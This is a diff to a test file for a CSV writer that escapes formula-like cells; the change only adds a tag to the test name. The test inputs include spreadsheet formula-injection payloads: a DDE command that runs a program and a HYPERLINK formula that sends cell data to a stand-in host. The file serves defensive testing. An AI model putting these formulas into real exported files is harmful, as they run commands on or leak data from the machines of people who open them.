@@ -20,7 +20,7 @@ describe("a cell that a spreadsheet would run", () => {
   test.each([
     ...["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "＝1", "＋1", "－1", "＠x"],
     ...['=HYPERLINK("https://example.com?x="&A1)', "=cmd|' /C calc'!A0", "-2+3", "@"],
-  ])("%j gets an apostrophe, in quotation marks", (cell) => {
+  ])("[CSV-01] %j gets an apostrophe, in quotation marks", (cell) => {
     const line = csvLine(["first", cell, "last"]);
     expect(line).toMatch(/^first,"'/);
     expect(readCsv(line)).toEqual([["first", `'${cell}`, "last"]]);
